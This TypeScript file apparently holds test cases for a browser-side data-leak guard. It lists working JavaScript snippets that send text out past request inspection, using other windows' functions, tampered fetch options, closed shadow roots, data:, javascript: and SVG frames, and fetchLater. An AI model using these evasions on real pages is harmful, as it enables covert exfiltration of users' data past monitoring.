// Ways by which a page turns a browser's own doors against the gate: other windows' functions, options that change while
// they are read, fields named like the form's own members, trees whose events nobody outside hears.

interface Turn {
  html?: string;
  /** Sends `text` to `to`; the page's own errors are caught. */
  send: string;
  /** An expression: whether this browser has what it takes. */
  needs?: string;
}

const FRAME = `const inner = document.body.appendChild(document.createElement('iframe')).contentWindow;`;
const QUIET = `.catch(() => undefined)`;

export const TURNS: Record<string, Turn> = {
  'fetch: an address as an object': {
    send: `fetch(new URL(to + '?t=' + encodeURIComponent(text), location))${QUIET}`,
  },
  'fetch: options that say otherwise once they were read': {
    send: `fetch(new Request(to, new Proxy({ method: 'POST', body: text }, { getOwnPropertyDescriptor: (target, key) => key === 'body' ? { value: 'short', configurable: true, enumerable: true, writable: true } : Reflect.getOwnPropertyDescriptor(target, key) })))${QUIET}`,
  },
  'fetch: options that change while they are read': {
    send: `fetch(new Request(to, { body: text, get method() { Object.defineProperty(this, 'body', { value: 'short' }); return 'POST'; } }))${QUIET}`,
  },
  'fetch: constructors of the page’s own': {
    send: `(() => { const params = new URLSearchParams({ t: text.replace('roster', '') }); window.URLSearchParams = class { toString() { return text; } };
     return fetch(to, { method: 'POST', body: params })${QUIET}; })()`,
  },
  'fetch: many short fields of a form': {
    send: `(() => { const form = new FormData(); text.match(/.{1,40}/g).forEach((row, at) => form.append('row' + at, 'Ainscow ' + at + ', ' + row)); return fetch(to, { method: 'POST', body: form })${QUIET}; })()`,
  },
  'fetch: the nodes of an editor': {
    send: `fetch(to, { method: 'POST', body: JSON.stringify({ type: 'doc', content: text.match(/.{1,40}/g).map((row, at) => ({ type: 'paragraph', content: [{ type: 'text', text: 'Ainscow ' + at + ', ' + row }] })) }) })${QUIET}`,
  },
  'XMLHttpRequest: opened by one window, sent by another’s function': {
    send: `(() => { ${FRAME} const request = new inner.XMLHttpRequest(); request.open('POST', to); XMLHttpRequest.prototype.send.call(request, text); })()`,
  },
  'form.submit(): a form of another window': {
    send: `(() => { ${FRAME} const form = inner.document.body.appendChild(inner.document.createElement('form')); form.method = 'post'; form.action = to;
     const field = form.appendChild(inner.document.createElement('textarea')); field.name = 't'; field.value = text; HTMLFormElement.prototype.submit.call(form); })()`,
  },
  'form: fields named like its own members': {
    html: `<form method=post action=/upload target=hole><input name=elements><input name=getAttribute><input name=isConnected><input name=requestSubmit><textarea name=localName id=t></textarea></form><iframe name=hole></iframe>`,
    send: `(() => { t.value = text; document.forms[0].action = to; HTMLFormElement.prototype.requestSubmit.call(document.forms[0]); })()`,
  },
  'requestSubmit: in a closed shadow root whose page stops the event': {
    html: `<iframe name=hole></iframe>`,
    send: `(() => { const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
     root.addEventListener('submit', (event) => event.stopImmediatePropagation(), true);
     root.innerHTML = '<form method=post target=hole><textarea name=t></textarea><button>b</button></form>'; const form = root.querySelector('form'); form.action = to;
     root.querySelector('textarea').value = text; form.requestSubmit(); })()`,
  },
  'requestSubmit: in a closed shadow root, filled in while it submits': {
    html: `<iframe name=hole></iframe>`,
    send: `(() => { const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
     root.innerHTML = '<form method=post target=hole><textarea name=t></textarea><button>b</button></form>'; const form = root.querySelector('form'); form.action = to;
     form.addEventListener('submit', () => { root.querySelector('textarea').value = text; }); form.requestSubmit(); })()`,
  },
  'form.submit(): in a closed shadow root': {
    html: `<iframe name=hole></iframe>`,
    send: `(() => { const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
     root.innerHTML = '<form method=post target=hole><textarea name=t></textarea></form>'; const form = root.querySelector('form'); form.action = to; form.firstChild.value = text; form.submit(); })()`,
  },
  'click: a button in a closed shadow root, by an event that does not leave it': {
    html: `<iframe name=hole></iframe>`,
    send: `(() => { const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
     root.innerHTML = '<form method=post target=hole><textarea name=t></textarea><button>b</button></form>'; const form = root.querySelector('form'); form.action = to;
     root.querySelector('textarea').value = text; root.querySelector('button').dispatchEvent(new MouseEvent('click', { bubbles: false, composed: false })); })()`,
  },
  'requestSubmit: in a shadow root that came by setHTMLUnsafe': {
    needs: `'setHTMLUnsafe' in Element.prototype`,
    html: `<div id=host></div><iframe name=hole></iframe>`,
    send: `(() => { host.setHTMLUnsafe('<div><template shadowrootmode=open><form method=post target=hole><textarea name=t></textarea></form></template></div>');
     const form = host.firstChild.shadowRoot.querySelector('form'); form.action = to; form.firstChild.value = text; form.requestSubmit(); })()`,
  },
  'document.open: of another window, by this one’s function': {
    send: `(() => { ${FRAME} document.open.call(inner.document); document.write.call(inner.document, '<form method=post><textarea name=t></textarea></form>'); document.close.call(inner.document);
     const form = inner.document.forms[0]; form.action = to; form.firstChild.value = text; form.requestSubmit(); })()`,
  },
  'embed: its window, by number': {
    send: `new Promise((resolve) => { const embed = document.createElement('embed'); embed.type = 'text/html'; embed.src = 'about:blank'; document.body.append(embed);
     const go = () => { const inner = window[0]; if (!inner) return setTimeout(go, 0); inner.fetch(to, { method: 'POST', body: text })${QUIET}.then(resolve); }; go(); })`,
  },
  'object: its window, by number': {
    send: `new Promise((resolve) => { const object = document.createElement('object'); object.type = 'text/html'; object.data = 'about:blank'; document.body.append(object);
     const go = () => { const inner = window[0]; if (!inner) return setTimeout(go, 0); inner.fetch(to, { method: 'POST', body: text })${QUIET}.then(resolve); }; go(); })`,
  },
  'frame: of a frameset, by number': {
    send: `(() => { const set = document.createElement('frameset'); const frame = document.createElement('frame'); set.append(frame); document.documentElement.replaceChild(set, document.body);
     return window[0].fetch(to, { method: 'POST', body: text })${QUIET}; })()`,
  },
  'a data: frame': {
    send: `new Promise((resolve) => { const frame = document.createElement('iframe'); frame.src = 'data:text/html,' + encodeURIComponent('<script>fetch(' + JSON.stringify(to) + ', { method: "POST", mode: "no-cors", body: ' + JSON.stringify(text) + ' }).catch(() => 0)</' + 'script>'); frame.onload = resolve; document.body.append(frame); })`,
  },
  'a javascript: frame': {
    send: `new Promise((resolve) => { const frame = document.createElement('iframe'); window.given = [to, text]; frame.src = 'javascript:"<script>fetch(parent.given[0], { method: \\'POST\\', body: parent.given[1] }).catch(() => 0)</" + "script>"'; frame.onload = resolve; document.body.append(frame); })`,
  },
  'an SVG frame': {
    send: `new Promise((resolve) => { const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(new Blob(['<svg xmlns="http://www.w3.org/2000/svg"><script>fetch(' + JSON.stringify(to) + ', { method: "POST", body: ' + JSON.stringify(text) + ' }).catch(() => 0)</' + 'script></svg>'], { type: 'image/svg+xml' })); frame.onload = resolve; document.body.append(frame); })`,
  },
  'a window that was just opened': {
    send: `(() => { const inner = open('about:blank'); if (!inner) return fetch(to, { method: 'POST', body: text })${QUIET}; return inner.fetch(to, { method: 'POST', body: text })${QUIET}.then(() => inner.close()); })()`,
  },
  'fetchLater: a request': {
    needs: `'fetchLater' in window`,
    send: `void fetchLater(new Request(to, { method: 'POST', body: text }), { activateAfter: 0 })`,
  },
  'fetchLater: text in the address': {
    needs: `'fetchLater' in window`,
    send: `void fetchLater(to + '?t=' + encodeURIComponent(text), { activateAfter: 0 })`,
  },
};
